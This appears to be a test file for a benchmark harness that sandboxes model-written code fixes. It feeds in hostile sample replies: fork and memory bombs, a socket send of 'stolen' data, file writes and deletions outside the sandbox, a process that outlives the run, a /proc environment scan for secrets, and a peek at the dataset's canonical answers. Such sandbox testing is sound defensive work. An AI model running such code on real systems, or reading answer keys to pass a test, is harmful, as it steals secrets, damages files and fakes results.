@@ -1,0 +1,337 @@
+"""Hostile and broken model replies, each fed through the real agent and sandbox by the replay
+model, under each layer (bwrap, process) and executor (fresh interpreter, warm fork server).
+
+Every case asserts: the task is not fixed, the run goes on (the next task is scored normally),
+nothing outside the sandbox changed, no process is left behind, and the harness's own memory
+stays bounded. Where the process layer cannot prevent a case, it is an xfail (strict) naming
+the limit. Set HUMANFIX_BAD_INPUTS_TABLE=<file> to record what happened in each case, then
+`python tests/test_bad_inputs.py <file>` prints the table.
+"""
+
+from __future__ import annotations
+
+import ctypes
+import json
+import os
+import resource
+import signal
+import socket
+import sys
+import time
+import uuid
+from dataclasses import dataclass
+from pathlib import Path
+
+import pytest
+
+from conftest import dataset_path
+from pytest_humanfix.cgroup import open_cgroups
+from pytest_humanfix.dataset import load_tasks
+from pytest_humanfix.runner import Runner
+from pytest_humanfix.sandbox import Limits
+from pytest_humanfix.sandbox_setup import Choice, make_sandbox
+from pytest_humanfix.settings import Settings
+
+TASK = "Python/2"  # truncate_number: a quick test, so hostile code is all that takes time
+NEXT_TASK = "Python/0"
+TIMEOUT = 2.0
+MEMORY_GROWTH_LIMIT = 64 << 20  # the harness reads capped output and nothing else
+LIMITS = Limits(timeout=TIMEOUT, memory_bytes=768 << 20)
+
+CGROUPS, CGROUPS_WHY = open_cgroups()
+
+# (layer, executor); the warm executor needs cgroups, and says so where they are missing.
+CONFIGS = [
+    pytest.param(("bwrap", "fresh"), id="bwrap-fresh"),
+    pytest.param(("bwrap", "warm"), id="bwrap-warm", marks=pytest.mark.xfail(
+        CGROUPS is None, reason=f"warm executor needs writable cgroups: {CGROUPS_WHY}",
+        strict=True)),
+    pytest.param(("process", "fresh"), id="process-fresh"),
+    pytest.param(("process", "warm"), id="process-warm", marks=pytest.mark.xfail(
+        CGROUPS is None, reason=f"warm executor needs writable cgroups: {CGROUPS_WHY}",
+        strict=True)),
+]
+
+
+def reply(body: str, before: str = "") -> str:
+    """A chat reply holding `before` (top-level code, run at import) and the function."""
+    return (f"Here is the fix:\n\n```python\n{before}\n"
+            f"def truncate_number(number: float) -> float:\n{body}\n```\n")
+
+
+@dataclass(frozen=True)
+class Case:
+    name: str
+    text: str  # the reply; {tok}, {home}, {port} are filled in per test
+    process_limit: str | None = None  # why the process layer cannot prevent it
+    needs_cgroups: str | None = None  # what only a cgroup bounds, where one is missing
+
+
+CASES = [
+    Case("sys.exit(0) at import", reply("    return number % 1.0",
+                                        "_ = __import__('sys').exit(0)")),
+    Case("os._exit(0) at import", reply("    return number % 1.0",
+                                        "_ = __import__('os')._exit(0)")),
+    Case("sys.exit(0) during the tests", reply("    import sys\n    sys.exit(0)")),
+    Case("os._exit(0) during the tests", reply("    import os\n    os._exit(0)")),
+    Case("SystemExit raised in the function", reply("    raise SystemExit(0)")),
+    Case("infinite loop", reply("    while True:\n        pass")),
+    Case("memory bomb", reply("    hog = []\n    while True:\n"
+                              "        hog.append(bytearray(1 << 26))\n        hog[-1][::4096] = b'x' * (1 << 14)")),
+    Case("fork bomb", reply("    import os\n    while True:\n        try:\n            os.fork()\n"
+                            "        except OSError:\n            pass"),
+         needs_cgroups="root ignores RLIMIT_NPROC; only a pids cgroup bounds a fork bomb"),
+    Case("gigabytes of output", reply("    import sys\n    block = 'x' * (1 << 20)\n"
+                                      "    for _ in range(4096):\n        sys.stdout.write(block)\n"
+                                      "        sys.stderr.write(block)")),
+    Case("network connection to a loopback listener", reply(
+        "    import socket\n    s = socket.create_connection(('127.0.0.1', {port}), timeout=1)\n"
+        "    s.sendall(b'stolen {tok}')\n    return number % 1.0")),
+    Case("writing files outside its folder", reply(
+        "    for path in ('/tmp/humanfix-escape-{tok}', '{home}/humanfix-escape-{tok}'):\n"
+        "        try:\n            open(path, 'w').write('escaped')\n"
+        "        except OSError as exc:\n            print(exc)\n    return None"),
+        process_limit="the process layer runs as the harness's user: it may write where "
+                      "that user may (/tmp, the home folder)"),
+    Case("deleting a canary file in the home folder", reply(
+        "    import os\n    os.remove('{home}/humanfix-canary-{tok}')\n    return None"),
+        process_limit="the process layer runs as the harness's user: it may delete that "
+                      "user's files"),
+    Case("reading the dataset's canonical solutions", reply(
+        "    try:\n        if 'canonical_solution' in open('{dataset}').read():\n"
+        "            print('ANSWERS-VISIBLE')\n    except OSError as exc:\n        print(exc)\n"
+        "    return None"),
+        process_limit="the process layer can read every file the harness's user can, the "
+                      "dataset's canonical solutions included"),
+    Case("ignoring SIGTERM", reply("    import signal\n"
+                                   "    signal.signal(signal.SIGTERM, signal.SIG_IGN)\n"
+                                   "    while True:\n        pass")),
+    Case("grandchild that detaches and outlives the run", reply(
+        "    import os, time\n    if os.fork() == 0:\n        os.setsid()\n"
+        "        if os.fork() == 0:\n            time.sleep(60)\n            open('/tmp/humanfix-late-{tok}', 'w')\n"
+        "        os._exit(0)\n    time.sleep(0.2)\n    return None"),
+        needs_cgroups="a process that leaves its session is reaped only through its cgroup "
+                      "(or the bwrap PID namespace)"),
+    Case("input()", reply("    return float(input())")),
+    Case("unbounded recursion", reply("    return truncate_number(number + 1)")),
+    Case("unbounded recursion with the limit lifted", reply(
+        "    import sys\n    sys.setrecursionlimit(10 ** 8)\n"
+        "    def down(n):\n        return down(n + 1) + 1\n    return down(0)")),
+    Case("syntax error", reply("    return number % 1.0 +")),
+    Case("reply without the entry point", "```python\ndef something_else(x):\n    return x\n```"),
+]
+
+# Reads its own environment and every /proc/<pid>/environ it can see; run by a pytester test,
+# so that the secret is in the pytest process's environment from its start.
+SECRET_SEARCH = reply(
+    "    import os\n    print('env', dict(os.environ))\n"
+    "    for pid in os.listdir('/proc'):\n        try:\n"
+    "            for var in open('/proc/' + pid + '/environ', 'rb').read().split(b'\\0'):\n"
+    "                if b'SECRET' in var:\n                    print(pid, var)\n"
+    "        except (OSError, ValueError):\n            pass\n    return None")
+PROC_LIMIT = ("the process layer shares /proc: the same user reads the harness's "
+              "/proc/<pid>/environ")
+
+_choices: dict[tuple[str, str], Choice] = {}
+
+
+def resident_pids() -> set[int]:
+    """The warm executors' servers (and their bwrap holders): they stay by design."""
+    return set().union(*(getattr(c.sandbox, "server_pids", set()) for c in _choices.values()))
+
+
+def choice_for(config: tuple[str, str]) -> Choice:
+    """One sandbox per configuration and worker, shared by the cases as in a real run."""
+    if config not in _choices:
+        _choices[config] = make_sandbox(config[0], config[1], LIMITS,
+                                        hidden_files=(str(dataset_path()),))
+    return _choices[config]
+
+
+@pytest.fixture(scope="module")
+def tasks(dataset: Path) -> dict:
+    return {t.task_id: t for t in load_tasks(str(dataset))}
+
+
+@pytest.fixture
+def subreaper():
+    """Orphans of this process's descendants come back to it, so detached ones are found."""
+    libc = ctypes.CDLL(None, use_errno=True)
+    libc.prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
+    yield
+    libc.prctl(36, 0, 0, 0, 0)
+
+
+def _stat(pid: int) -> tuple[int, str] | None:
+    try:
+        text = Path(f"/proc/{pid}/stat").read_text()
+    except OSError:
+        return None
+    fields = text.rsplit(")", 1)[1].split()
+    return int(fields[1]), fields[0]  # ppid, state
+
+
+def living_descendants(exclude: set[int]) -> set[int]:
+    table = {}
+    for entry in os.listdir("/proc"):
+        if entry.isdigit() and (stat := _stat(int(entry))) is not None:
+            table[int(entry)] = stat
+    found, frontier = set(), {os.getpid()}
+    while frontier:
+        frontier = {pid for pid, (ppid, _) in table.items() if ppid in frontier} - found
+        found |= frontier
+    for pid in [p for p in found if table[p][1] == "Z" and table[p][0] == os.getpid()]:
+        try:
+            os.waitpid(pid, os.WNOHANG)  # an orphan handed to us; never one subprocess waits on
+        except ChildProcessError:
+            pass
+    return {p for p in found if table[p][1] not in ("Z", "X")} - exclude
+
+
+def leftovers(exclude: set[int], grace: float = 3.0) -> set[int]:
+    deadline = time.monotonic() + grace
+    while (alive := living_descendants(exclude)) and time.monotonic() < deadline:
+        time.sleep(0.05)
+    return alive
+
+
+def evaluate(tmp_path: Path, tasks: dict, config: tuple[str, str], task_id: str, text: str):
+    replay = tmp_path / f"replay-{uuid.uuid4().hex[:6]}.jsonl"
+    replay.write_text(json.dumps({"task_id": task_id, "completion": text}) + "\n")
+    settings = Settings(model=f"replay:{replay}", sandbox=config[0], executor=config[1],
+                        timeout=TIMEOUT)
+    runner = Runner(settings, "bad-inputs")
+    runner.__dict__["sandbox_choice"] = choice_for(config)
+    return runner.evaluate(tasks[task_id])
+
+
+def record_row(case: str, config: tuple[str, str], happened: str) -> None:
+    table = os.environ.get("HUMANFIX_BAD_INPUTS_TABLE")
+    if table:
+        line = json.dumps({"case": case, "config": "-".join(config), "happened": happened})
+        with open(table, "a", encoding="utf-8") as handle:
+            handle.write(line + "\n")
+
+
+def home_folder() -> Path:
+    return Path.home().resolve()
+
+
+@pytest.mark.parametrize("config", CONFIGS)
+@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
+def test_bad_input(case: Case, config: tuple[str, str], tasks: dict, tmp_path: Path,
+                   subreaper, request: pytest.FixtureRequest) -> None:
+    limit = case.process_limit if config[0] == "process" else None
+    if case.needs_cgroups and CGROUPS is None and config[0] == "process":
+        limit = f"{case.needs_cgroups} ({CGROUPS_WHY})"
+    if limit:
+        request.applymarker(pytest.mark.xfail(reason=limit, strict=True,
+                                              raises=AssertionError))
+    sandbox = choice_for(config).sandbox
+    tok = uuid.uuid4().hex[:12]
+    home = home_folder()
+    canary = home / f"humanfix-canary-{tok}"
+    canary.write_text(tok)
+    listener = socket.create_server(("127.0.0.1", 0))
+    listener.setblocking(False)
+    escapes = [Path(f"/tmp/humanfix-escape-{tok}"), home / f"humanfix-escape-{tok}",
+               Path(f"/tmp/humanfix-late-{tok}")]
+    rss_before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss << 10
+    try:
+        text = case.text.replace("{tok}", tok).replace("{home}", str(home)).replace(
+            "{port}", str(listener.getsockname()[1])).replace("{dataset}", str(dataset_path()))
+        result = evaluate(tmp_path, tasks, config, TASK, text)
+        left = leftovers(resident_pids())
+        for pid in left:
+            os.kill(pid, signal.SIGKILL)
+        try:
+            connection, _ = listener.accept()
+            connection.settimeout(1)
+            heard = connection.recv(100) or b"(a connection)"
+        except BlockingIOError:
+            heard = b""
+        verdict = result.verdict or {}
+        changed = [str(p) for p in escapes if p.exists()]
+        if not canary.exists():
+            changed.append(f"{canary} deleted")
+        grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss << 10) - rss_before
+        answers_seen = "ANSWERS-VISIBLE" in verdict.get("stdout", "")
+        next_result = evaluate(tmp_path, tasks, config, NEXT_TASK,
+                               f"```python\n{tasks[NEXT_TASK].canonical_code}```")
+        happened = f"{result.outcome}: {verdict.get('status', '-')} " \
+                   f"(exit {verdict.get('exit_code')}): " \
+                   f"{(result.failure or result.error).splitlines()[-1][:70]}"
+        refused = [line for line in verdict.get("stdout", "").splitlines() if "Errno" in line]
+        if refused:
+            happened += "; refused: " + " / ".join(refused)
+        for problem, present in (("changed " + ", ".join(changed), changed),
+                                 (f"left {len(left)} process(es)", left),
+                                 (f"listener heard {heard!r}", heard),
+                                 ("read the answers", answers_seen)):
+            if present:
+                happened += f"; {problem}"
+        record_row(case.name, config, happened)
+        assert result.outcome == "unfixed", happened
+        assert len(verdict["stdout"]) + len(verdict["stderr"]) < 64 << 10
+        assert next_result.outcome == "fixed", "the run did not go on after this case"
+        assert not changed, f"outside the sandbox: {changed}"
+        assert not left, f"{len(left)} process(es) left behind: {sorted(left)}"
+        assert not heard, f"the listener heard {heard!r}"
+        assert not answers_seen, "the candidate read the dataset's canonical solutions"
+        assert grown < MEMORY_GROWTH_LIMIT, f"the harness grew by {grown >> 20} MiB"
+    finally:
+        listener.close()
+        for path in escapes:
+            path.unlink(missing_ok=True)
+        canary.unlink(missing_ok=True)
+
+
+@pytest.mark.parametrize("config", CONFIGS)
+def test_secret_in_pytest_environment(config: tuple[str, str], humanfix_pytester,
+                                      tasks: dict, request: pytest.FixtureRequest,
+                                      monkeypatch: pytest.MonkeyPatch) -> None:
+    """The secret is in the pytest process's environment from its start (so it is in its
+    /proc/<pid>/environ too); the candidate looks everywhere and must not find it."""
+    if config[0] == "process":
+        request.applymarker(pytest.mark.xfail(reason=PROC_LIMIT, strict=True,
+                                              raises=AssertionError))
+    secret = uuid.uuid4().hex
+    replay = humanfix_pytester.path / "replay.jsonl"
+    replay.write_text(
+        json.dumps({"task_id": TASK, "completion": SECRET_SEARCH}) + "\n"
+        + json.dumps({"task_id": NEXT_TASK,
+                      "completion": f"```python\n{tasks[NEXT_TASK].canonical_code}```"}) + "\n")
+    monkeypatch.setenv("HUMANFIX_TEST_SECRET", secret)
+    run = humanfix_pytester.runpytest_subprocess(
+        f"--humanfix-model=replay:{replay}", f"--humanfix-task={NEXT_TASK},{TASK}",
+        f"--humanfix-sandbox={config[0]}", f"--humanfix-executor={config[1]}",
+        "--humanfix-timeout=5", "-p", "no:cacheprovider")
+    records = {r["task_id"]: r for r in map(json.loads, (
+        humanfix_pytester.path / "reports" / "humanfix.jsonl").read_text().splitlines())}
+    run.assert_outcomes(passed=1, failed=1)
+    hostile = records[TASK]
+    assert hostile["outcome"] == "unfixed" and records[NEXT_TASK]["outcome"] == "fixed"
+    assert (hostile["verdict"]["layer"], hostile["verdict"]["executor"]) == config
+    assert "env {" in hostile["verdict"]["stdout"], "the candidate did not run its search"
+    seen = secret in hostile["verdict"]["stdout"]
+    record_row("secret in the pytest process's environment (pytester run)", config,
+               f"unfixed: {hostile['verdict']['status']}; "
+               + ("READ the secret from /proc" if seen else "secret not visible"))
+    assert not seen, "the candidate read the secret"
+
+
+def render_table(path: Path) -> str:
+    rows = [json.loads(line) for line in path.read_text().splitlines() if line.strip()]
+    configs = sorted({r["config"] for r in rows})
+    order = [c.name for c in CASES]
+    cases = sorted(dict.fromkeys(r["case"] for r in rows),
+                   key=lambda name: order.index(name) if name in order else len(order))
+    cell = {(r["case"], r["config"]): r["happened"].replace("|", "/") for r in rows}
+    lines = ["| case | " + " | ".join(configs) + " |", "|---" * (len(configs) + 1) + "|"]
+    for case in cases:
+        lines.append(f"| {case} | " + " | ".join(cell.get((case, c), "") for c in configs) + " |")
+    return "\n".join(lines)
+
+
+if __name__ == "__main__":
+    print(render_table(Path(sys.argv[1])))
